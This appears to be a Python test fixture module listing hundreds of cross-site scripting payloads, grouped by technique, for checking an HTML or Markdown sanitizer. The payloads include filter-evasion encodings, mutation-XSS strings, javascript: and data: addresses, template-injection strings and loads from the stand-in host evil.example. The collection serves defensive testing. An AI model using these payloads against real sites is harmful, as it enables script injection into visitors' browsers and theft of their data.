"""What somebody could write to make a visitor's browser run it, or load something from elsewhere.

Each payload calls ``xss()`` if it runs, or loads from ``evil.example``; the tests watch for both.
They are grouped by what they try to slip through. ``build`` gives all of them, numbered.
"""

from __future__ import annotations

TAGS = """
<script>xss()</script>
<script>xss()//
<ScRiPt>xss()</sCrIpT>
<script >xss()</script >
<script/x>xss()</script>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,xss()"></script>
<script type=module>xss()</script>
<<script>xss();//<</script>
<scr<script>ipt>xss()</scr</script>ipt>
</p><script>xss()</script><p>
<iframe src="javascript:xss()"></iframe>
<iframe srcdoc="<script>xss()</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=xss()&gt;"></iframe>
<iframe src="data:text/html,<script>xss()</script>"></iframe>
<object data="javascript:xss()"></object>
<object data="data:text/html,<script>xss()</script>"></object>
<embed src="javascript:xss()">
<embed src="data:text/html,<script>xss()</script>">
<base href="//evil.example/">
<meta http-equiv=refresh content="0;url=javascript:xss()">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>xss()</script>">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=preload as=script href="//evil.example/x.js">
<link rel=modulepreload href="data:text/javascript,xss()">
<form action="javascript:xss()"><button id=f>go</button></form>
<form><button formaction="javascript:xss()">go</button></form>
<isindex action="javascript:xss()" type=image>
<frameset onload=xss()>
<applet code="javascript:xss()">
<portal src="javascript:xss()">
<noscript><p title="</noscript><img src=x onerror=xss()>">
<template><script>xss()</script></template>
<dialog open onclose=xss()><form method=dialog><button autofocus>x</button></form></dialog>
<image src=x onerror=xss()>
<xss autofocus tabindex=1 onfocus=xss()>x</xss>
<plaintext><script>xss()</script>
<listing><script>xss()</script></listing>
"""

HANDLERS = (
    """
<img src=x onerror=xss()>
<img src=x onerror="xss()">
<img src=x onerror='xss()'>
<img src=x onerror=xss`1`>
<img src=x:x onerror="&#120;ss()">
<img src=x onerror="&#x78&#x73&#x73()">
<img src onerror=xss()>
<img/src=x/onerror=xss()>
<img\tsrc=x\tonerror=xss()>
<img\x0csrc=x\x0conerror=xss()>
<img src=x onerror\x0c=xss()>
<img src=x OnErRoR=xss()>
<img """
    + '"'
    + """"><script>xss()</script>">
<img src="x` `<script>xss()</script>"` `>
<img src=x srcset="x, y" onerror=xss()>
<picture><source srcset=x><img onerror=xss()></picture>
<body onload=xss()>
<body onpageshow=xss()>
<body/onload=xss()>
<svg onload=xss()>
<details open ontoggle=xss()>x</details>
<details/open/ontoggle=xss()>
<input autofocus onfocus=xss()>
<select autofocus onfocus=xss()>
<textarea autofocus onfocus=xss()>
<button autofocus onfocus=xss()>x</button>
<video src=x onerror=xss()></video>
<video><source onerror=xss()></video>
<audio src=x onerror=xss()></audio>
<marquee onstart=xss()>x</marquee>
<div style="animation:i 1s" onanimationstart=xss()>x</div>
<p onpointerenter=xss() onmouseover=xss() onclick=xss() style="position:fixed;inset:0">x</p>
<a onbeforecopy=xss() contenteditable onbeforeinput=xss() onfocus=xss() autofocus href=#>x</a>
<p hidden=until-found onbeforematch=xss()>x</p>
<div popover id=o onbeforetoggle=xss()>x</div><button popovertarget=o autofocus>x</button>
<style onload=xss()></style>
<link rel=stylesheet href=data:text/css, onload=xss()>
<iframe onload=xss()></iframe>
<object onerror=xss() data=x></object>
<track onerror=xss() src=x>
<progress onfocus=xss() tabindex=0 autofocus></progress>
"""
)

ATTRIBUTES = """
" onmouseover=xss() autofocus onfocus=xss() x="
' onmouseover=xss() autofocus onfocus=xss() x='
" autofocus onfocus="xss()" tabindex="0
" style="animation:i" onanimationstart="xss()
"><img src=x onerror=xss()>
'><img src=x onerror=xss()>
`><img src=x onerror=xss()>
></option></select><img src=x onerror=xss()>
"></title><img src=x onerror=xss()>
</title><img src=x onerror=xss()>
</textarea><img src=x onerror=xss()>
</style><img src=x onerror=xss()>
</noscript><img src=x onerror=xss()>
</template><img src=x onerror=xss()>
</iframe><img src=x onerror=xss()>
</xmp></plaintext></listing><img src=x onerror=xss()>
--><img src=x onerror=xss()>
--!><img src=x onerror=xss()>
]]><img src=x onerror=xss()>
?><img src=x onerror=xss()>
<!--><img src=x onerror=xss()>-->
<!--<img src="--><img src=x onerror=xss()//">
<![CDATA[><img src=x onerror=xss()>]]>
<?php echo 1 ?><img src=x onerror=xss()>
<!doctype html><img src=x onerror=xss()>
&lt;img src=x onerror=xss()&gt;
&amp;lt;img src=x onerror=xss()&amp;gt;
&#60;img src=x onerror=xss()&#62;
&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;
%3Cimg%20src%3Dx%20onerror%3Dxss()%3E
%253Cimg%2520src%253Dx%2520onerror%253Dxss()%253E
\\u003cimg src=x onerror=xss()\\u003e
\\x3cimg src=x onerror=xss()\\x3e
+ADw-script+AD4-xss()+ADw-/script+AD4-
＜script＞xss()＜/script＞
‹img src=x onerror=xss()›
"""

ADDRESSES = """
javascript:xss()
JaVaScRiPt:xss()
javascript://evil.example/%0axss()
javascript:/*--></title></style></textarea></script>*/xss()
javascript:void(xss())//https://clinic.example
java&#115;cript:xss()
&#106;avascript:xss()
&#x6A&#x61&#x76&#x61script:xss()
javascript&colon;xss()
java&Tab;script:xss()
java&NewLine;script&colon;xss()
java\tscript:xss()
java\x0bscript:xss()
 javascript:xss()
\u00a0javascript:xss()
\u200bjavascript:xss()
\ufeffjavascript:xss()
\u202ejavascript:xss()
java\u00adscript:xss()
ｊａｖａｓｃｒｉｐｔ:xss()
javascript：xss()
%6Aavascript:xss()
javascript%3Axss()
vbscript:xss()
livescript:xss()
mocha:xss()
data:text/html,<script>xss()</script>
data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==
DATA:TEXT/HTML,<script>xss()</script>
data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>
data:,javascript:xss()
blob:https://evil.example/0
filesystem:https://evil.example/temporary/x
view-source:javascript:xss()
feed:javascript:xss()
jar:javascript:xss()
intent://evil.example#Intent;scheme=javascript;end
//evil.example/x.js
\\\\evil.example\\x.js
/\\evil.example/x.js
https:javascript:xss()
https:/evil.example
http://[javascript:xss()]/
https://clinic.example" onmouseover="xss()" autofocus onfocus="xss()
https://clinic.example' autofocus onfocus='xss()
https://clinic.example/?"><img src=x onerror=xss()>
https://clinic.example/</script><script>xss()</script>
https://clinic.example&quot; autofocus onfocus=&quot;xss()
https://clinic.example\\" autofocus onfocus=\\"xss()
mailto:a@b.example" autofocus onfocus="xss()
mailto:javascript:xss()
tel:javascript:xss()
tel:+1"><img src=x onerror=xss()>
ftp://evil.example/x
about:srcdoc
chrome://settings
file:///etc/passwd
x-javascript:xss()
"""

DRAWINGS = """
<svg><script>xss()</script></svg>
<svg><script href="data:text/javascript,xss()"/></svg>
<svg><script xlink:href="data:text/javascript,xss()"></script></svg>
<svg><a xlink:href="javascript:xss()"><text y=20>x</text></a></svg>
<svg><animate onbegin=xss() attributeName=x dur=1s></svg>
<svg><set onbegin=xss() attributeName=x></svg>
<svg><animate attributeName=href values="javascript:xss()"/><a id=a><text y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>xss()</script></svg>#x"/></svg>
<svg><image href=x onerror=xss()></image></svg>
<svg><foreignObject><body onload=xss()></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>xss()</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=xss()></style></svg>
<svg><title><img src=x onerror=xss()></title></svg>
<svg><desc><script>xss()</script></desc></svg>
<math><a xlink:href="javascript:xss()">x</a></math>
<math href="javascript:xss()">x</math>
<math><mtext><img src=x onerror=xss()></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=xss()></annotation-xml></math>
<math><maction actiontype="statusline#x" xlink:href="javascript:xss()">x</maction></math>
"""

MUTATIONS = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xss()&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror=xss()">
<svg></p><style><a id="</style><img src=x onerror=xss()>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>
<noscript><style></noscript><img src=x onerror=xss()>
<listing>&lt;img src=x onerror=xss()&gt;</listing>
<xmp><p title="</xmp><img src=x onerror=xss()>">
<textarea><p title="</textarea><img src=x onerror=xss()>">
<title><p title="</title><img src=x onerror=xss()>">
<select><template><style></select><img src=x onerror=xss()></style></template></select>
<table><td><svg><desc><td><img src=x onerror=xss()>
<a href="<img src=x onerror=xss()>">x</a><a title='"><img src=x onerror=xss()>'>
<p id="</p><img src=x onerror=xss()>"><svg><p id="</svg><img src=x onerror=xss()>">
<svg><![CDATA[><img src=x onerror=xss()>]]></svg>
<!--<textarea>--><img src=x onerror=xss()></textarea>
<x title="&lt;/x&gt;&lt;img src=x onerror=xss()&gt;">
<template shadowrootmode=open><img src=x onerror=xss()></template>
<code>&lt;/code&gt;&lt;img src=x onerror=xss()&gt;</code>
<mark><img src=x onerror=xss()></mark>
&lt;mark&gt;&lt;img src=x onerror=xss()&gt;&lt;/mark&gt;
"""

SCRIPTS = """
</script><script>xss()</script>
</SCRIPT ><script>xss()</script>
</script/x><script>xss()</script>
<!--<script></script><script>xss()</script>
<!--<script>"</script><script>xss()</script>
"}]}</script><script>xss()</script>
"});xss();//
");xss();//
');xss();//
\\");xss();//
\\u0022);xss();//
"+xss()+"
'-xss()-'
${xss()}
`+xss()+`
{{constructor.constructor('xss()')()}}
{{''.__class__.__mro__}}{% print(1) %}<img src=x onerror=xss()>
<%= xss() %><img src=x onerror=xss()>
#{xss()}<img src=x onerror=xss()>
\u2028xss()//
\u2029xss()//
*/xss()/*
//\u2028xss()
]]></script><script>xss()</script>
__proto__
constructor
toString
"""

MARKDOWN = """
[x](javascript:xss())
[x](JAVASCRIPT:xss())
[x](java\tscript:xss())
[x](<javascript:xss()>)
[x](<java\tscript:xss()>)
[x]( javascript:xss() )
[x](&#106;avascript:xss())
[x](javascript&colon;xss())
[x](java&Tab;script:xss())
[x](\\javascript:xss())
[x](data:text/html,<script>xss()</script>)
[x](data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==)
[x](vbscript:xss())
[x](https://clinic.example "onmouseover=xss()")
[x](https://clinic.example '" autofocus onfocus=xss() "')
[x](https://clinic.example/"onfocus=xss()autofocus=")
[x](https://clinic.example/&quot;onfocus=xss()&#32;autofocus=&quot;)
[x][1] [1]: javascript:xss()
[x]: javascript:xss()
[" autofocus onfocus=xss() "](https://clinic.example)
[<img src=x onerror=xss()>](https://clinic.example)
[x](//evil.example)
[x](/\\evil.example)
![x](javascript:xss())
![x](x"onerror="xss())
![x](https://images.example/x"onerror="xss())
![" onerror="xss()](https://images.example/x.png)
![x](https://images.example/x.png "x\\" onerror=\\"xss()")
![x](data:image/svg+xml,<svg/onload=xss()>)
![<img src=x onerror=xss()>](https://images.example/x.png)
<javascript:xss()>
<JaVaScRiPt:xss()>
<https://clinic.example"onmouseover="xss()>
<a@b.example"onfocus="xss()>
`<img src=x onerror=xss()>`
```<img src=x onerror=xss()>```
```"><script>xss()</script>
~~~js" onfocus="xss()
1. <img src=x onerror=xss()>
> <img src=x onerror=xss()>
# <img src=x onerror=xss()>
| <img src=x onerror=xss()> |
**<img src=x onerror=xss()>**
~~</s><img src=x onerror=xss()>~~
\\<img src=x onerror=xss()\\>
<!-- --> <img src=x onerror=xss()>
<details open ontoggle=xss()><summary>x</summary></details>
&lt;script&gt;xss()&lt;/script&gt;
[![x](javascript:xss())](javascript:xss())
"""

STYLES = """
red;}*{background:url(//evil.example/s1)}
red;background:url(//evil.example/s2)
url(//evil.example/s3)
URL(//evil.example/s4)
u\\72l(//evil.example/s5)
image-set("//evil.example/s6" 1x)
image(//evil.example/s7)
src("//evil.example/s8")
cross-fade("//evil.example/s9","//evil.example/sa")
-webkit-image-set("//evil.example/sb" 1x)
expression(xss())
#fff/**/;xss:expression(xss())
</style><script>xss()</script>
<style>@import'//evil.example/sc';</style>
<style>*{background:url(//evil.example/sd)}</style>
<p style="background:url(//evil.example/se)">x</p>
<div style="behavior:url(//evil.example/sf)">x</div>
@import "//evil.example/sg";
attr(onerror)
var(--x,url(//evil.example/sh))
"""

READING = """
\u202e<img src=x onerror=xss()>
\u202egnp.exe<script>xss()</script>
\u2066<script>xss()</script>\u2069
<img\u2028src=x\u2028onerror=xss()>
<img src=x on\u200berror=xss()>
<scr\u00adipt>xss()</scr\u00adipt>
<ſcript>xss()</ſcript>
<İmg src=x onerror=xss()>
<img src=x onerror=xss()\u3000>
\ufeff<img src=x onerror=xss()>
"""

GROUPS = {
    "tags": TAGS,
    "event handlers": HANDLERS,
    "ends of attributes and elements": ATTRIBUTES,
    "addresses": ADDRESSES,
    "SVG and MathML": DRAWINGS,
    "HTML that changes when it is read twice": MUTATIONS,
    "ends of scripts, strings and templates": SCRIPTS,
    "Markdown": MARKDOWN,
    "styles": STYLES,
    "invisible and turned-round signs": READING,
}


def groups() -> dict[str, list[str]]:
    """The payloads of each group. A line is a payload; blanks at its start belong to it."""
    return {name: [line for line in text.split("\n") if line] for name, text in GROUPS.items()}


def payloads() -> list[str]:
    """All payloads, each once."""
    return list(dict.fromkeys(line for lines in groups().values() for line in lines))
